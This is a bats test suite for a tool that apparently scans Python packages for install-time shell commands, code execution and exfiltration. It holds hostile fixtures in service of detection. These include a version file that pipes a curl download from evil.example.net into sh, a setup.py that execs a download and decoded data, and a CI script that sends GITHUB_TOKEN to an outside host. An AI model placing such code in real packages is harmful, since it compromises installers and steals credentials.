#!/usr/bin/env bats
# 45-xref.bats: functions of other files that install or import code calls, and console scripts.

load helpers/common
load helpers/parse
load helpers/analyze
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; mkdir -p pkg/pkg; }

# hits DIR DETECTION: "path line context score" of that detection's hits for the directory.
hits() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --arg d "$2" 'select(.type == "hit" and .detection == $d) | "\(.path) \(.line) \(.context) \(.score)"'
}

@test "setup.py's install command calling the package's function: that function is install time" {
	cat > pkg/setup.py <<'PY'
from setuptools import setup
from setuptools.command.install import install
class I(install):
    def run(self):
        from pkg.tool import go
        go()
        install.run(self)
setup(name="pkg", cmdclass={"install": I})
PY
	cat > pkg/pkg/tool.py <<'PY'
import os
def go():
    helper()
def helper():
    os.system("id")
def unused():
    os.system("whoami")
PY
	run hits pkg ShellCommand
	assert_output "$(printf 'pkg/tool.py 5 function 2\npkg/tool.py 7 function 2\npkg/tool.py 5 install 100')"
	run bash -c "aura-fetch pkg | aura-unpack | aura-parse | aura-rewrite | aura-analyze | jq -r 'select(.type == \"hit\" and .context == \"install\") | [.message, (.tags | index(\"cross-file\") != null)] | @tsv'"
	assert_output "$(printf 'os.system() runs a shell command at install time (reached through setup.py → tool.go() → tool.helper())\ttrue')"
}

@test "__init__.py calling a function of a sibling module (relative import): import time" {
	printf 'from .installer import install\ninstall()\n' > pkg/pkg/__init__.py
	printf 'import subprocess\ndef install():\n    subprocess.Popen(["x"])\n' > pkg/pkg/installer.py
	run hits pkg ProcessExecution
	assert_output "$(printf 'pkg/installer.py 3 function 2\npkg/installer.py 3 import 40')"
}

@test "a function only imported, or called from an uncalled function, stays a function" {
	printf 'from .installer import install\ndef later():\n    install()\n' > pkg/pkg/__init__.py
	printf 'import subprocess\ndef install():\n    subprocess.Popen(["x"])\n' > pkg/pkg/installer.py
	run hits pkg ProcessExecution
	assert_output 'pkg/installer.py 3 function 2'
}

@test "test code calling the package does not raise it" {
	mkdir -p pkg/tests
	printf 'from pkg.installer import install\ninstall()\n' > pkg/tests/test_x.py
	printf 'import subprocess\ndef install():\n    subprocess.Popen(["x"])\n' > pkg/pkg/installer.py
	run hits pkg ProcessExecution
	assert_output 'pkg/installer.py 3 function 2'
}

@test "a console script's function (entry_points.txt, setup.cfg, pyproject.toml) is command code" {
	printf 'import os\ndef main():\n    os.system("id")\ndef other():\n    os.system("whoami")\n' > pkg/pkg/cli.py
	mkdir -p pkg/pkg.egg-info
	printf '[console_scripts]\ntool = pkg.cli:main\n' > pkg/pkg.egg-info/entry_points.txt
	run hits pkg ShellCommand
	assert_output "$(printf 'pkg/cli.py 3 function 2\npkg/cli.py 5 function 2\npkg/cli.py 3 command 2')"
	rm -r pkg/pkg.egg-info
	printf '[metadata]\nname = pkg\n[options.entry_points]\nconsole_scripts =\n    tool = pkg.cli:other\n' > pkg/setup.cfg
	run hits pkg ShellCommand
	assert_output "$(printf 'pkg/cli.py 3 function 2\npkg/cli.py 5 function 2\npkg/cli.py 5 command 2')"
	rm pkg/setup.cfg
	printf '[project]\nname = "pkg"\n[project.scripts]\ntool = "pkg.cli:main"\n' > pkg/pyproject.toml
	run hits pkg ShellCommand
	assert_output "$(printf 'pkg/cli.py 3 function 2\npkg/cli.py 5 function 2\npkg/cli.py 3 command 2')"
}

@test "entry points of other groups, and scripts naming no function of the package, reach nothing" {
	printf 'import os\ndef main():\n    os.system("id")\n' > pkg/pkg/cli.py
	mkdir -p pkg/pkg.egg-info
	printf '[pytest11]\nplug = pkg.cli:main\n[console_scripts]\nx = other.mod:main\n' > pkg/pkg.egg-info/entry_points.txt
	run hits pkg ShellCommand
	assert_output 'pkg/cli.py 3 function 2'
}

@test "exec of the package's own version file: weighed by what the file does; a file it lacks weighs in full" {
	mkdir -p pkg/pkg
	cat > pkg/setup.py <<'PY'
import os
from setuptools import setup
here = os.path.dirname(os.path.abspath(__file__))
with open("README.rst") as f:
    long_description = f.read()
with open(os.path.join(here, "pkg", "version.py")) as f:
    exec(f.read())
ns = {}
src = open("pkg/about.py").read()
exec(compile(src, "pkg/about.py", "exec"), ns)
setup(name="pkg", version=__version__)
PY
	printf '__version__ = "1.0"\n' > pkg/pkg/version.py
	printf '__author__ = "me"\n' > pkg/pkg/about.py
	run hits pkg CodeExecution
	assert_output "$(printf 'setup.py 7 install 5\nsetup.py 10 install 5')"
	run hits pkg CodeCompilation
	assert_output "setup.py 10 install 2"
	# the malicious variant: the version file itself runs a command, now at install time
	printf 'import os\n__version__ = "1.0"\nos.system("curl -s http://evil.example.net/a | sh")\n' > pkg/pkg/version.py
	run hits pkg ShellCommand
	assert_output "$(printf 'pkg/version.py 3 import 50\npkg/version.py 3 install 100')"
	# a file the package does not have: what runs is unknown, the exec weighs in full
	rm pkg/pkg/about.py
	run hits pkg CodeExecution
	assert_output "$(printf 'setup.py 7 install 5\nsetup.py 10 install 5\nsetup.py 10 install 100')"
}

@test "exec of text that is not a package file (a download, decoded data, a variable bound twice) weighs in full" {
	cat > pkg/setup.py <<'PY'
import urllib.request, base64
exec(urllib.request.urlopen("https://evil.example.net/x").read())
exec(base64.b64decode(blob))
code = open("pkg/version.py").read()
code = fetch()
exec(code)
PY
	printf '__version__ = "1.0"\n' > pkg/pkg/version.py
	run hits pkg CodeExecution
	assert_output "$(printf 'setup.py 2 install 100\nsetup.py 3 install 100\nsetup.py 6 install 100')"
}

@test "repository scripts (tools/, scripts/, .ci/) weigh like test code unless setup.py runs, imports or calls them" {
	mkdir -p pkg/tools pkg/scripts pkg/.ci
	printf 'from setuptools import setup\nsetup(name="pkg")\n' > pkg/setup.py
	printf 'import os\nos.system("whoami")\n' > pkg/tools/release.py
	printf 'import os\nos.system("id")\n' > pkg/scripts/evil.py
	printf 'import os\ndef go():\n    os.system("hostname")\n' > pkg/.ci/helper.py
	run bash -c "aura-fetch pkg | aura-unpack | aura-parse | aura-rewrite | aura-analyze | jq -r 'select(.type == \"hit\" and .detection == \"ShellCommand\") | \"\(.path) \(.context) \(.score) \(.tags | index(\"not-installed\") != null) \(.message)\"' | sort"
	assert_output "$(printf '%s\n' ".ci/helper.py function 2 true os.system() runs a shell command in code the package does not install" \
		"scripts/evil.py function 2 true os.system() runs a shell command in code the package does not install" \
		"tools/release.py function 2 true os.system() runs a shell command in code the package does not install")"
	# the malicious variant: setup.py imports them (their top level runs)
	printf 'from setuptools import setup\nimport scripts.evil\nfrom tools import release\nsetup(name="pkg")\n' > pkg/setup.py
	run bash -c "aura-fetch pkg | aura-unpack | aura-parse | aura-rewrite | aura-analyze | jq -r 'select(.type == \"hit\" and .detection == \"ShellCommand\" and .context == \"install\") | \"\(.path) \(.score)\"' | sort"
	assert_output "$(printf 'scripts/evil.py 100\ntools/release.py 100')"
}

@test "a package directory named like a repository script inside the package is installed code" {
	mkdir -p pkg/pkg/tools
	printf 'import os\nos.system("id")\n' > pkg/pkg/tools/x.py
	run hits pkg ShellCommand
	assert_output "pkg/tools/x.py 2 import 50"
}

@test "a build-tool command in a helper module keeps its build_tool score when setup.py calls it; another command does not" {
	mkdir -p pkg/buildutils
	printf 'from setuptools import setup\nfrom buildutils.build import build_lib\nbuild_lib("x")\nsetup(name="pkg")\n' > pkg/setup.py
	printf 'import subprocess\ndef build_lib(d):\n    subprocess.Popen(["cmake", "-S", d], cwd=d)\n    subprocess.check_call(["./bootstrap.sh"], cwd=d)\n' > pkg/buildutils/build.py
	run hits pkg ProcessExecution
	assert_output "$(printf '%s\n' "buildutils/build.py 3 function 1" "buildutils/build.py 4 function 2" \
		"buildutils/build.py 3 install 10" "buildutils/build.py 4 install 80")"
}

@test "repository scripts: a data flow in code nothing runs weighs its unshipped score; run from setup.py, in full" {
	mkdir -p pkg/ci
	printf 'from setuptools import setup\nsetup(name="pkg")\n' > pkg/setup.py
	printf 'import os, urllib.request\ntoken = os.environ.get("GITHUB_TOKEN")\nurllib.request.urlopen("https://collect.ci-status.net/x?t=" + token)\n' > pkg/ci/status.py
	run hits pkg Exfiltration
	assert_output "ci/status.py 3 function 5"
	printf 'from setuptools import setup\nimport ci.status\nsetup(name="pkg")\n' > pkg/setup.py
	run hits pkg Exfiltration
	assert_output "$(printf '%s\n' "ci/status.py 3 function 5" "ci/status.py 3 install 150")"
}
